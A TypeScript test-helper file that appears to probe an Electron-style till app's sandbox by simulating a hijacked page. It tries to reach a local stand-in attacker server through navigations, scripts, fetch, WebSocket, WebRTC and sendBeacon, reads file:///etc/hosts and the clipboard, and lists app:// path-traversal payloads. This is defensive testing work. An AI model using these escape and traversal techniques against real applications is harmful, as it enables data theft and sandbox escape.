// What a page would do that somebody took over, and the server it would like to tell. The functions
// that run in the page are sent there as text: each holds all that it needs.
import dgram from 'node:dgram'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, onTestFinished } from 'vitest'
import { newFolder, startTill, type TillUnderTest } from './tillUnderTest'

/** A server that should never hear of us: neither of a request nor of a connection. */
export async function openAttacker() {
  const heard: string[] = []
  const server = http.createServer((request, response) => {
    heard.push(request.url ?? '')
    response.end()
  })
  server.on('connection', () => heard.push('a connection'))
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  onTestFinished(() => {
    server.closeAllConnections()
    server.close()
    datagrams.close()
  })
  const { port } = server.address() as AddressInfo
  const datagrams = dgram.createSocket('udp4').on('message', () => heard.push('a datagram'))
  await new Promise<void>((resolve) => datagrams.bind(port, '127.0.0.1', resolve))
  return { url: `http://127.0.0.1:${String(port)}`, heard: () => heard }
}

export const waysOut = [
  'location', 'link', 'form', 'meta', 'blob', 'app', 'file', 'data', 'javascript',
] as const

export type WayOut = (typeof waysOut)[number]

/** Runs in the page. Each way carries its name, by which its refusal is known again. */
export function leaveBy({ way, url }: { readonly way: WayOut; readonly url: string }): void {
  const element = (tag: string, given: Readonly<Record<string, string>>): HTMLElement => {
    const made = document.createElement(tag)
    for (const [name, value] of Object.entries(given)) made.setAttribute(name, value)
    document.body.append(made)
    return made
  }
  const ways: Readonly<Record<WayOut, () => void>> = {
    location: () => location.assign(url),
    link: () => element('a', { href: url }).click(),
    form: () => {
      const form = element('form', { action: url, method: 'post' })
      if (form instanceof HTMLFormElement) form.submit()
    },
    meta: () => void element('meta', { 'http-equiv': 'refresh', content: `0;url=${url}` }),
    blob: () => {
      const page = new Blob(['<script>window.taken = true</script>'], { type: 'text/html' })
      location.assign(`${URL.createObjectURL(page)}#blob`)
    },
    app: () => location.assign('app://other/app'),
    file: () => location.assign('file:///etc/hosts?file'),
    data: () => location.assign('data:text/html,data'),
    javascript: () => location.assign('javascript:void(window.taken="javascript")'),
  }
  ways[way]()
}

/** Runs in the page; says of each attempt how it ended. */
export async function loadAndRun(url: string) {
  const take = "window.taken = 'taken'"
  const isTaken = () => Reflect.get(window, 'taken') !== undefined
  const settled = (work: () => Promise<unknown>): Promise<string> =>
    work().then(
      () => 'done',
      () => 'refused',
    )
  const loaded = (tag: string, given: Readonly<Record<string, string>>): Promise<string> =>
    new Promise((resolve) => {
      const made = document.createElement(tag)
      for (const name of ['load', 'error']) made.addEventListener(name, () => resolve(name))
      for (const [name, value] of Object.entries(given)) made.setAttribute(name, value)
      document.body.append(made)
    })
  const thrown = (work: () => unknown): string => {
    try {
      work()
      return 'done'
    } catch (error) {
      return error instanceof Error ? error.name : 'thrown'
    }
  }
  /** Older Chromiums refuse a worker by an exception, newer ones by an event. */
  const worked = (file: string): Promise<string> =>
    settled(
      () =>
        new Promise((resolve, reject) => {
          const worker = new Worker(file)
          worker.addEventListener('message', resolve)
          worker.addEventListener('error', reject)
        }),
    )
  /** Waits for the policy to say no, which it says for all that it leaves out silently. */
  const violated = (work: () => void): Promise<string> => {
    const said = new Promise<string>((resolve) => {
      const heard = () => resolve('refused')
      document.addEventListener('securitypolicyviolation', heard, { once: true })
    })
    work()
    return said
  }
  const add = (html: string) => document.body.insertAdjacentHTML('beforeend', html)
  // The debugger through which a test speaks may evaluate text; a later task of the page may not.
  await new Promise((resolve) => setTimeout(resolve))
  return {
    remoteScript: await loaded('script', { src: `${url}/script.js` }),
    dataScript: await loaded('script', { src: `data:text/javascript,${take}` }),
    remoteModule: await loaded('script', { src: `${url}/module.js`, type: 'module' }),
    evaluated: thrown(() => globalThis.eval(take)),
    madeFunction: thrown(() => Reflect.construct(Function, [take])),
    timedText: await violated(() => {
      Reflect.apply(Reflect.get(window, 'setTimeout') as unknown as () => void, window, [take])
    }),
    inlineScript: await violated(() => {
      const script = document.createElement('script')
      script.textContent = take
      document.body.append(script)
    }),
    inlineHandler: await violated(() => add(`<b onclick="${take}">x</b>`)),
    inlineStyle: await violated(() => add('<style>body { display: none }</style>')),
    remoteImage: await loaded('img', { src: `${url}/image.png` }),
    fileImage: await loaded('img', { src: 'file:///etc/hosts' }),
    remoteFetch: await settled(() => fetch(`${url}/fetch`)),
    fileFetch: await settled(() => fetch('file:///etc/hosts')),
    ownFetch: await settled(() => fetch('app://till/index.html')),
    request: await new Promise<string>((resolve) => {
      const request = new XMLHttpRequest()
      request.addEventListener('loadend', () => resolve(request.status === 0 ? 'error' : 'load'))
      request.open('GET', `${url}/request`)
      request.send()
    }),
    socket: await new Promise<string>((resolve) => {
      const socket = new WebSocket(url.replace('http', 'ws'))
      for (const name of ['open', 'error']) socket.addEventListener(name, () => resolve(name))
    }),
    serviceWorker: await settled(() => navigator.serviceWorker.register('/worker.js')),
    remoteWorker: await worked(`${url}/worker.js`),
    blobWorker: await worked(URL.createObjectURL(new Blob(['postMessage(1)']))),
    taken: isTaken(),
  }
}

/** Runs in the page: what loads behind its back, where only the attacker could tell. */
export async function askForMore(url: string): Promise<void> {
  const rels = ['preconnect', 'dns-prefetch', 'prefetch', 'stylesheet', 'modulepreload', 'manifest']
  for (const rel of [...rels, 'icon', 'prerender']) {
    const link = document.createElement('link')
    Object.assign(link, { rel, href: `${url}/${rel}` })
    document.head.append(link)
  }
  document.body.insertAdjacentHTML(
    'beforeend',
    `<iframe src="${url}/frame"></iframe><iframe src="file:///etc/hosts"></iframe>
     <iframe srcdoc="x"></iframe><object data="${url}/object"></object>
     <embed src="${url}/embed"><video src="${url}/video"></video><audio src="${url}/audio"></audio>
     <webview src="${url}/webview" nodeintegration></webview>
     <webview src="file:///etc/hosts"></webview>
     <a ping="${url}/ping" href="#here"></a>`,
  )
  document.querySelector<HTMLAnchorElement>('a[ping]')?.click()
  navigator.sendBeacon(`${url}/beacon`, 'canary')
  const host = new URL(url).host
  const servers = [`stun:${host}`, `turn:${host}?transport=tcp`, `turn:${host}`]
  const connection = new RTCPeerConnection({
    iceServers: servers.map((urls) => ({ urls, username: 'canary', credential: 'canary' })),
  })
  const hasAsked = new Promise<void>((resolve) => {
    connection.addEventListener('icegatheringstatechange', () => {
      if (connection.iceGatheringState === 'complete') resolve()
    })
  })
  connection.createDataChannel('canary')
  await connection.setLocalDescription(await connection.createOffer())
  await hasAsked
  connection.close()
}

/** Runs in the page: takes what somebody copied, and leaves something on the disk. */
export function pasteAndDownload(): readonly [isDone: boolean, pasted: string] {
  const field = document.createElement('textarea')
  document.body.append(field)
  field.focus()
  const isDone = document.execCommand('paste')
  const link = document.createElement('a')
  const href = URL.createObjectURL(new Blob(['canary'], { type: 'text/plain' }))
  Object.assign(link, { href, download: 'taken.txt' })
  document.body.append(link)
  link.click()
  return [isDone, field.value]
}

/** What the page may ask of its own scheme; the first alone is there. */
export const pathsOut = [
  'app://till/index.html',
  'app://till/../../package.json',
  'app://till/..%2f..%2fpackage.json',
  'app://till/%2e%2e/%2e%2e/package.json',
  'app://till/%2e%2e%2f%2e%2e%2fpackage.json',
  'app://till/..%5c..%5cpackage.json',
  'app://till/....//....//package.json',
  'app://till/%252e%252e%252f%252e%252e%252fpackage.json',
  'app://till/..%2fmain%2fmain.js',
  'app://till/..%2fpreload%2fpreload.cjs',
  'app://till/assets/..%2f..%2fmain%2fmain.js',
  'app://till//etc/hosts.html',
  'app://till/%2fetc%2fhosts',
  'app://till/index.html%00.js',
  'app://till/%E0%A4%A.html',
  'app://till/',
  'app://till',
  'app://other/index.html',
  'app://till.other/index.html',
  'app://till@other/index.html',
] as const

/** A practice till whose page is there to be taken over. */
export async function openPractice(): Promise<TillUnderTest> {
  const till = await startTill(newFolder(), { args: ['--practice'] })
  expect(await till.ask('start', null)).toEqual({ kind: 'ready' })
  await till.page.waitForSelector('[data-ready]')
  return till
}
